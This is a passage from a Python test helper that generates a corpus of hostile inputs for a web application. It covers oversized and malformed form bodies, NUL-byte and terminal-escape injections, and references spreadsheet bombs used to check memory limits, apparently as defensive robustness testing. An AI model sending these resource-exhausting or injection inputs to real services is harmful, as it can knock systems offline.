    ("form-state-huge", b"state=" + b"A" * (2 * 1024 * 1024)),
    ("form-invalid-utf8", b"state=\xff\xfe&parent_letters=\xc0\xaf"),
    ("form-nul-fields", b"state=x%00y&consent=on%00"),
    ("form-many-fields", b"&".join(b"f%d=1" % i for i in range(5_000))),
    ("form-control-characters", b"state=%1b%5b31m&action=%07back"),
]


def table_items() -> list[Item]:
    return CSV_ITEMS + XLSX_ITEMS


def sparse_items() -> list[Item]:
    """Spreadsheet bombs and their harmless look-alikes; ``tests/hostile/test_sparse.py``
    sends each to every route that reads a spreadsheet, measuring the request in a child
    process (calamine allocates outside Python's sight)."""
    return SPARSE_ITEMS


def xlsform_items() -> list[Item]:
    return XLSFORM_ITEMS


def json_items() -> list[Payload]:
    return JSON_ITEMS


def form_items() -> list[tuple[str, bytes]]:
    return FORM_ITEMS


def count() -> int:
    return (
        len(table_items())
        + len(sparse_items())
        + len(xlsform_items())
        + len(json_items())
        + len(form_items())
    )


def write(directory: Path) -> None:
    directory.mkdir(parents=True, exist_ok=True)
    for item in table_items() + sparse_items() + xlsform_items():
        (directory / item.name).write_bytes(item.data())
    for payload in json_items():
        if payload.body is not None:
            (directory / f"{payload.name}.json").write_bytes(payload.body())
    for name, body in form_items():
        (directory / f"{name}.txt").write_bytes(body)


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    write(target)
    print(f"{count()} hostile items written to {target}")
